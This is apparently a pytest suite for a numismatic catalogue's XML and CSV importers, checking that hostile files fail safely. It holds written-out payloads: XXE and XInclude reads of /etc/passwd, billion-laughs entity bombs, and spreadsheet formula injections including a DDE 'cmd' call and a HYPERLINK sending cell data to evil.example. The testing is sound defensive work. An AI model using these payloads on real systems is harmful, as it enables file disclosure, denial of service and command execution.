"""Hostile catalogue files: NUDS XML that attacks the parser, CSV cells that attack spreadsheets.

Each hostile record fails (NUDS) or is stored as inert text with a warning (CSV), with a readable
reason in the import summary; the other records still import; nothing from outside the file is
read; memory stays bounded (measured in a subprocess).
"""

from __future__ import annotations

import csv
import json
import subprocess
import sys
from pathlib import Path

import pytest

from collection.importers.base import RecordError, formula_neutralise, formula_restore, is_formula_like
from collection.importers.nuds import MAX_XML_BYTES, import_nuds_paths, nuds_parse
from collection.importers.tabular import import_csv_file
from collection.models import Concept, Item, Specimen
from tests.samples import BILLION_LAUGHS, MINIMAL

ROOT = Path(__file__).resolve().parents[2]
NUDS_NS = 'xmlns="http://nomisma.org/nuds" xmlns:xlink="http://www.w3.org/1999/xlink"'
PASSWD = Path("/etc/passwd")
XINCLUDE = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{PASSWD}" parse="text"/>'


def good(record_id: str) -> str:
    return MINIMAL.format(record_id=record_id, axis="6", weight="3.5")


def wrapped(legend_xml: str, record_id: str = "H.1") -> str:
    """A valid record whose obverse legend holds ``legend_xml``."""
    return (
        f"<nuds {NUDS_NS}><control><recordId>{record_id}</recordId></control><descMeta><title>T</title>"
        f"<typeDesc><obverse><legend>{legend_xml}</legend></obverse></typeDesc></descMeta></nuds>"
    )


QUADRATIC_BLOWUP = (
    f'<?xml version="1.0"?><!DOCTYPE nuds [<!ENTITY x "{"x" * 50_000}">]>'
    f"<nuds {NUDS_NS}><control><recordId>Q.1</recordId></control>"
    f"<descMeta><title>{'&x;' * 5_000}</title></descMeta></nuds>"
)

# file name → (document, words the failure reason must contain)
HOSTILE_NUDS = {
    "billion-laughs.xml": (BILLION_LAUGHS, "forbidden XML"),
    "quadratic-blowup.xml": (QUADRATIC_BLOWUP, "forbidden XML"),
    "xxe-passwd.xml": (
        f'<?xml version="1.0"?><!DOCTYPE nuds [<!ENTITY xxe SYSTEM "file://{PASSWD}">]>'
        f"<nuds {NUDS_NS}><control><recordId>XXE.2</recordId></control>"
        "<descMeta><title>&xxe;</title></descMeta></nuds>",
        "forbidden XML",
    ),
    "external-dtd.xml": (
        f'<?xml version="1.0"?><!DOCTYPE nuds SYSTEM "file://{PASSWD}">'
        f"<nuds {NUDS_NS}><control><recordId>DTD.1</recordId></control></nuds>",
        "forbidden XML",
    ),
    "parameter-entity.xml": (
        f'<?xml version="1.0"?><!DOCTYPE nuds [<!ENTITY % p SYSTEM "file://{PASSWD}"> %p;]>'
        f"<nuds {NUDS_NS}><control><recordId>PE.1</recordId></control></nuds>",
        "forbidden XML",
    ),
    "no-namespace.xml": ("<nuds><control><recordId>NS.1</recordId></control></nuds>", "not a NUDS record"),
    "wrong-root.xml": (
        '<mods xmlns="http://www.loc.gov/mods/v3"><recordId>NS.2</recordId></mods>',
        "not a NUDS record",
    ),
    "children-in-another-namespace.xml": (
        '<n:nuds xmlns:n="http://nomisma.org/nuds" xmlns="urn:evil">'
        "<control><recordId>NS.3</recordId></control></n:nuds>",
        "no control/recordId",
    ),
    "deeply-nested.xml": (wrapped("<a>" * 50_000 + "x" + "</a>" * 50_000), "nested too deeply"),
    "too-many-elements.xml": (wrapped("<b/>" * 60_000), "too many elements"),
    "huge-legend.xml": (wrapped("A" * 2_000_000), "text too long in <legend>"),
    "utf7-trick.xml": ('<?xml version="1.0" encoding="UTF-7"?>+ADw-nuds+AD4-', "malformed XML"),
    "unknown-encoding.xml": (f'<?xml version="1.0" encoding="x-evil"?><nuds {NUDS_NS}/>', "malformed XML"),
    "empty.xml": ("", "malformed XML"),
}


class TestNudsParse:
    @pytest.mark.parametrize("name", sorted(HOSTILE_NUDS))
    def test_a_hostile_document_fails_with_a_readable_reason(self, name):
        document, words = HOSTILE_NUDS[name]
        with pytest.raises(RecordError, match=words) as excinfo:
            nuds_parse(document.encode())
        assert "root:" not in str(excinfo.value)

    def test_an_xinclude_is_not_followed(self):
        document = wrapped(
            f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{PASSWD}" parse="text"/>'
        )
        record = nuds_parse(document.encode())
        assert "root:" not in json.dumps(record.item_fields) + json.dumps(record.specimen_attributes, default=str)

    def test_records_within_the_bounds_still_parse(self):
        record = nuds_parse(wrapped("<a>" * 50 + "IMP CAES" + "</a>" * 50 + " " + "A" * 50_000).encode())
        assert record.item_fields["obverse_legend"].startswith("IMP CAES A")


@pytest.mark.django_db
class TestImportHostileNuds:
    def test_each_hostile_file_fails_with_its_reason_and_the_good_ones_import(self, tmp_path):
        folder = tmp_path / "nuds"
        folder.mkdir()
        for n in range(3):
            (folder / f"good-{n}.xml").write_text(good(f"GOOD.{n}"))
        for name, (document, _) in HOSTILE_NUDS.items():
            (folder / name).write_text(document, encoding="utf-8")
        huge = folder / "thirty-megabyte-legend.xml"
        huge.write_text(wrapped("A" * 30 * 2**20))
        result = import_nuds_paths([folder])
        reasons = {Path(key).name: reason for key, reason in result.failed}
        assert result.created == 3 and Specimen.objects.count() == 3
        for name, (_, words) in HOSTILE_NUDS.items():
            assert words in reasons[name], (name, reasons.get(name))
        assert "file too large" in reasons[huge.name] and str(MAX_XML_BYTES) in reasons[huge.name]
        summary = result.summary()
        assert all(f"{name}: " in summary for name in HOSTILE_NUDS)
        self._assert_nothing_leaked(summary)

    def test_an_xinclude_record_imports_without_the_included_file(self, tmp_path):
        document = good("XI.1").replace(
            '<title xml:lang="en">',
            f'<title xml:lang="en">{XINCLUDE}',
        )
        path = tmp_path / "xi.xml"
        path.write_text(document)
        result = import_nuds_paths([path])
        assert result.created == 1
        self._assert_nothing_leaked(result.summary())

    @staticmethod
    def _assert_nothing_leaked(summary: str) -> None:
        if not PASSWD.exists():
            pytest.skip("no /etc/passwd to leak on this machine")
        assert "root:" not in summary
        texts = [
            json.dumps(list(Specimen.objects.values()), default=str),
            json.dumps(list(Item.objects.values()), default=str),
            json.dumps(list(Concept.objects.values()), default=str),
        ]
        assert not any("root:" in text or "/bin/" in text for text in texts)


NUDS_RSS_SCRIPT = """
import json, os, sys
os.environ.setdefault("DJANGO_SETTINGS_MODULE", "config.settings_test")
import django
django.setup()
from collection.importers.base import RecordError
from collection.importers.nuds import nuds_parse


def high_water_mb():
    # VmHWM is this process's own; ru_maxrss would carry the parent's (pytest's) mark across fork + exec.
    for line in open("/proc/self/status"):
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) / 1024


outcomes = {}
before = high_water_mb()
for path in sys.argv[1:]:
    try:
        nuds_parse(open(path, "rb").read())
        outcomes[path] = "parsed"
    except RecordError as exc:
        outcomes[path] = str(exc)
growth = high_water_mb() - before
print(json.dumps({"outcomes": outcomes, "growth_mb": growth}))
"""


def test_hostile_nuds_files_near_the_size_limit_parse_in_bounded_memory(tmp_path):
    # Each file is just under the 5 MB limit: the bounds, not the size check, must stop them.
    documents = {
        "deep.xml": wrapped("<a>" * 600_000 + "</a>" * 600_000),
        "wide.xml": wrapped("<b/>" * 1_200_000),
        "text.xml": wrapped("A" * (MAX_XML_BYTES - 400)),
        "laughs.xml": BILLION_LAUGHS,
    }
    paths = []
    for name, document in documents.items():
        path = tmp_path / name
        path.write_text(document)
        assert path.stat().st_size <= MAX_XML_BYTES
        paths.append(str(path))
    done = subprocess.run(
        [sys.executable, "-c", NUDS_RSS_SCRIPT, *paths], cwd=ROOT, capture_output=True, text=True, timeout=120
    )
    assert done.returncode == 0, done.stderr[-2000:]
    report = json.loads(done.stdout.strip().splitlines()[-1])
    assert all(outcome != "parsed" for outcome in report["outcomes"].values()), report
    # Unbounded, "deep" and "wide" build trees of a million elements (well over 100 MB).
    assert report["growth_mb"] < 40, report


# --- CSV: formula injection ---------------------------------------------------------------------

DANGEROUS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def write_csv(path: Path, header: list[str], rows: list[list[str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(header)
        writer.writerows(rows)
    return path


class TestFormulaHelpers:
    @pytest.mark.parametrize("cell", DANGEROUS)
    def test_a_formula_is_recognised_and_neutralised_with_a_quote(self, cell):
        assert is_formula_like(cell)
        assert formula_neutralise(cell) == "'" + cell
        assert formula_restore(formula_neutralise(cell)) == cell

    @pytest.mark.parametrize("cell", ["-44", "+3", "12.5", "-0,5", "RIC 37", "IMP CAES", "'quoted", "", "a=b"])
    def test_plain_values_and_numbers_are_left_alone(self, cell):
        assert not is_formula_like(cell)
        assert formula_neutralise(cell) == cell and formula_restore(cell) == cell


@pytest.mark.django_db
class TestCsvFormulaInjectionOnImport:
    HEADER = ["record_id", "title", "item_uri", "obverse_legend", "provenance", "date_from", "date_to", "weight_g"]

    def test_formula_cells_are_stored_as_inert_text_and_reported(self, tmp_path):
        rows = [
            [f"F.{n}", cell, f"http://example.org/type/{n}", cell, cell, "-44", "-42", "3.5"]
            for n, cell in enumerate(DANGEROUS)
        ]
        rows.append(
            ["F.plain", "A plain denarius", "http://example.org/type/p", "CAESAR", "Old collection", "14", "", ""]
        )
        result = import_csv_file(write_csv(tmp_path / "evil.csv", self.HEADER, rows))
        assert result.failed == [] and result.created == len(DANGEROUS) + 1
        for n, cell in enumerate(DANGEROUS):
            specimen = Specimen.objects.select_related("item").get(record_id=f"F.{n}")
            expected = " ".join(cell.split())  # whitespace is collapsed as for every cell; nothing else changes
            assert specimen.title == specimen.provenance == specimen.item.obverse_legend == expected
            # Numeric columns still take negative numbers, without a warning.
            assert (specimen.item.date_from, specimen.item.date_to) == (-44, -42)
        warned = dict(result.warnings)
        assert set(warned) == {f"F.{n}" for n in range(len(DANGEROUS))}
        assert all("title, obverse_legend, provenance" in reason for reason in warned.values())
        assert "date_from" not in " ".join(warned.values())
        assert "Warnings:" in result.summary() and "would run as a spreadsheet formula" in result.summary()

    def test_a_formula_in_a_numeric_column_fails_the_row_and_is_never_evaluated(self, tmp_path):
        rows = [["N.1", "x", "", "", "", "=1+1", "", "=2*3"], ["N.2", "y", "", "", "", "-5", "", "2.5"]]
        result = import_csv_file(write_csv(tmp_path / "numbers.csv", self.HEADER, rows))
        reasons = dict(result.failed)
        assert "bad number" in reasons["N.1"]
        assert not Specimen.objects.filter(record_id="N.1").exists()
        assert Specimen.objects.get(record_id="N.2").weight_g is not None

    def test_a_quote_added_by_an_export_is_removed_and_not_reported(self, tmp_path):
        rows = [["Q.1", formula_neutralise("=HYPERLINK(1)"), "", "", "'plain quote kept", "", "", ""]]
        result = import_csv_file(write_csv(tmp_path / "quoted.csv", self.HEADER, rows))
        specimen = Specimen.objects.get(record_id="Q.1")
        assert specimen.title == "=HYPERLINK(1)"
        assert specimen.provenance == "'plain quote kept"
        assert result.warnings == []
